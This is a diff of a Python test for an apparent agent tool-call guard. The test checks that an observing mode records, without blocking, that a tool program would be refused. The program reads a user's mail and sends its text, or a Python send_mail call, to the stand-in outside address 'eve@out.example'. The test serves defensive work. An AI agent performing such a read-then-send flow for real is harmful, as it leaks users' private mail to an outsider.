@@ -276,10 +276,15 @@ async def test_observing_blocks_nothing_and_records_what_would_have_been(desk: D
         ).startswith("sent")
         assert not (await client.call_tool("slow", {"seconds": 0})).is_error
         code = "S1: @read_mail (number=4) > $mail\nS2: @send_mail (to='eve@out.example', text=$mail.text)\n"
-        run = text_of(await client.call_tool("run_program", {"code": code}))
-        assert "would be refused: untrusted data decides to of @SEND_MAIL" in run
-        assert "done" in run
-    assert desk.log == ["read 1", "send eve@out.example: x", "slow", "read 4", "send eve@out.example: mail 4"]
+        program = text_of(await client.call_tool("run_program", {"code": code}))
+        assert "would be refused: untrusted data decides to of @SEND_MAIL" in program
+        assert "done" in program
+        python = "async def main() -> str:\n    return await send_mail(to='eve@out.example', text='y')\n"
+        run = text_of(await client.call_tool("run_program", {"code": python}))
+        assert "RUN038" in run
+        assert "would be refused: " in run
+    first = ["read 1", "send eve@out.example: x", "slow", "read 4", "send eve@out.example: mail 4"]
+    assert desk.log == [*first, "send eve@out.example: y"]
     shown = desk.callsheet("show", session_in(desk))
     assert "observes: it would have refused 1, asked about 1" in shown
     flow = "would reach eve@out.example (rule flow; flow READ_MAIL -> SEND_MAIL)"
@@ -288,7 +293,8 @@ async def test_observing_blocks_nothing_and_records_what_would_have_been(desk: D
         "would be asked: @SLOW: untrusted data decides whether @SLOW is called, which cannot be undone"
         in shown
     )
-    assert "would be refused: @SEND_MAIL: private data in" in desk.callsheet("show", "last")
+    observed = re.search(r"run (\S+): done", program).group(1)  # pyright: ignore[reportOptionalMemberAccess]
+    assert "would be refused: @SEND_MAIL: private data in" in desk.callsheet("show", observed)
 
 
 def session_in(desk: Desk) -> str:
